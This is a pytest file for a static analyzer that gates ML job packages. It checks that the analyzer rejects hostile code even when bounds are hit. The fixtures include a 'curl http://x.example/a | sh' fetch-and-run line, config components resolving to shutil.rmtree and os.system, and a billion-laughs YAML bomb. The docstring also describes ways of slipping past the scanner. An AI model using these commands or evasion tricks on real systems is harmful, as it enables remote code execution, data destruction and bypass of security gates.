"""Session 46: fail closed, stay up, hide nothing.

- program.MAX_LINKS (20,000 names linked per program): past it every name that leads into the job's modules was
  unresolved, so a web of star imports that used the links up first made a threat written after it through the
  job's own module (`tools.shell.system('curl ... | sh')`, tools.py `import os as shell`) unresolved: escalate,
  the reject unreported, whether in the same module or another. Past the bound each name of the job's code now
  gets program.PAST_LINKS links of its own.
- A config's component class followed through the job's modules (detectors/configs.py _Job.judge) stopped after 5:
  a component re-exported six times (`from r1 import Helper` ... `from shutil import rmtree as Helper`) was "the
  job's module r5 does not define Helper" (untrusted: escalate) instead of dangerous (reject). Now as many as
  library_classes.MAX_DEPTH (configs.MAX_HOPS), past which the message names the bound.
- A config nested past the depth its walks read (200) read as a `{name}` substitution bomb at that place ("{name}
  substitutions make the string at `deep[0][0]...` longer than 65536 characters", with no substitution in it):
  now it says so (configs.nested_past), and a component nested deeper than that is never accepted.
- A hydra YAML past hydra_configs.MAX_NODES (100,000 values) or whose aliases expand past MAX_YAML_VALUES was not
  read at all: `_target_: os.system` beside 100,050 values (walked first) or a billion-laughs anchor was only
  "unvouched.hydra-target (the file ...)", escalate. Each target is now still named (arguments unknown): reject.
  A MONAI bundle config (configs/*.json, *.yaml) past MAX_YAML_VALUES likewise was only "unvouched.monai-bundle
  (the file ...)": each node is now read once (monai_bundles._node, an alias met again is the unknown value).
"""

from __future__ import annotations

from pathlib import Path

import pytest

from analyzer.engine.detectors.configs import MAX_HOPS

import json
import shutil

import redteam_kit as kit
from analyzer.model import Decision

FETCH_AND_RUN = "remote-code.fetch-and-run-command"
THREAT = "import tools\ntools.shell.system('curl http://x.example/a | sh')\n"


def _star_web(names: int, modules: int = 16) -> dict[str, str]:
    """`modules` modules each star-importing every other one, and main.py naming `names` attributes of the first
    that none binds: linking the first alone uses up the program's links."""
    files = {f"m{i}.py": "".join(f"from m{j} import *\n" for j in range(modules) if j != i) + f"x{i} = 1\n"
             for i in range(modules)}
    files["main.py"] = "import m0\n" + "".join(f"m0.a{k}()\n" for k in range(names))
    files["tools.py"] = "import os as shell\n"
    return files


@pytest.mark.parametrize("where", ["main.py", "zz.py"], ids=["same-module", "module-after"])
def test_a_threat_through_the_jobs_module_after_the_links_are_used_up_rejects(tmp_path: Path, where: str) -> None:
    files = _star_web(30)
    files[where] = files.get(where, "") + THREAT
    report = kit.scan_files(tmp_path, files)
    assert report.decision is Decision.REJECT, kit.findings(report)
    line = files[where].count("\n")
    assert (FETCH_AND_RUN, where, line) in {(f.rule, f.path, f.line) for f in report.findings}
    # the names past the bound stay unresolved (never accepted), beside the reject
    assert ("unvouched.unresolved", "main.py", 2) in {(f.rule, f.path, f.line) for f in report.findings}


def _component_chain(root: Path, hops: int, end: str, args: dict) -> Path:
    """demo_clean with a client component `r0.Helper`, r0.py .. r<hops-1>.py each importing Helper from the next."""
    job = root / "job"
    shutil.copytree(kit.CORPUS / "jobs/demo_clean", job)
    custom = job / "app_client/custom"
    for i in range(hops):
        (custom / f"r{i}.py").write_text(f"from r{i + 1} import Helper\n")
    (custom / f"r{hops}.py").write_text(end)
    config = job / "app_client/config/config_fed_client.json"
    data = json.loads(config.read_text())
    data["components"] = [{"id": "helper", "path": "r0.Helper", "args": args}]
    config.write_text(json.dumps(data, indent=2))
    return job


def test_a_dangerous_component_re_exported_six_times_rejects(tmp_path: Path) -> None:
    job = _component_chain(tmp_path, 6, "from shutil import rmtree as Helper\n", {"path": "/data"})
    report = kit.scan(job)
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert "config-attack.dangerous-component" in kit.rules(report)


def test_a_component_named_past_the_bound_is_never_accepted_and_says_why(tmp_path: Path) -> None:
    job = _component_chain(tmp_path, MAX_HOPS + 1, "from shutil import rmtree as Helper\n", {"path": "/data"})
    report = kit.scan(job)
    assert report.decision is not Decision.ACCEPT
    held = [f for f in report.findings if f.rule == "config-attack.untrusted-component"]
    assert held and "more modules than the gate follows" in held[0].message, kit.findings(report)


def test_a_config_nested_past_the_walks_depth_is_named_as_such_and_never_accepted(tmp_path: Path) -> None:
    job = _component_chain(tmp_path, 0, "class Helper:\n    pass\n", {})
    config = job / "app_client/config/config_fed_client.json"
    data = json.loads(config.read_text())
    nested: dict = {"path": "shutil.rmtree", "args": {"path": "/data"}}
    for _ in range(250):
        nested = {"inner": nested}
    data["components"][0]["args"] = {"options": nested}
    config.write_text(json.dumps(data))
    report = kit.scan(job)
    assert report.decision is not Decision.ACCEPT
    messages = [f.message for f in report.findings if f.rule == "unanalyzable.config-parse"]
    assert messages and all("nested deeper than 200 levels" in m and "substitutions" not in m for m in messages), \
        messages


HYDRA_TRAIN = """import hydra
from hydra.utils import instantiate


@hydra.main(config_path="conf", config_name="config", version_base=None)
def main(cfg):
    instantiate(cfg.model)


if __name__ == "__main__":
    main()
"""
HYDRA_HEAD = "model:\n  _target_: os.system\n  command: echo started\n"


def _laughs(levels: int = 8) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"a{i}: &a{i} [" + ",".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels)]
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize("padding", ["data: [" + ", ".join(["0"] * 100_050) + "]\n", _laughs()],
                         ids=["100k-values", "alias-expansion"])
def test_a_hydra_target_beside_a_bound_the_file_hits_rejects(tmp_path: Path, padding: str) -> None:
    report = kit.scan_files(tmp_path, {"train.py": HYDRA_TRAIN, "conf/config.yaml": HYDRA_HEAD + padding})
    assert report.decision is Decision.REJECT, kit.findings(report)
    found = {(f.rule, f.path, f.line) for f in report.findings}
    assert ("subprocess.shell", "conf/config.yaml", 2) in found
    assert ("unvouched.hydra-target", "conf/config.yaml", 0) in found  # the bound still named


@pytest.mark.parametrize("name,text", [
    ("train.json", json.dumps({"network": {"_target_": "os.system", "command": "echo hi"}, "data": [0] * 100_050},
                              indent=1)),
    ("train.yaml", "network:\n  _target_: os.system\n  command: echo hi\n" + _laughs())],
    ids=["100k-values", "alias-expansion"])
def test_a_monai_bundle_target_beside_a_bound_the_file_hits_rejects(tmp_path: Path, name: str, text: str) -> None:
    report = kit.scan_files(tmp_path, {f"configs/{name}": text})
    assert report.decision is Decision.REJECT, kit.findings(report)
    found = {(f.rule, f.path, f.line) for f in report.findings}
    assert ("subprocess.shell", f"configs/{name}", 2) in found
    assert ("unvouched.monai-bundle", f"configs/{name}", 1) in found  # the bound still named
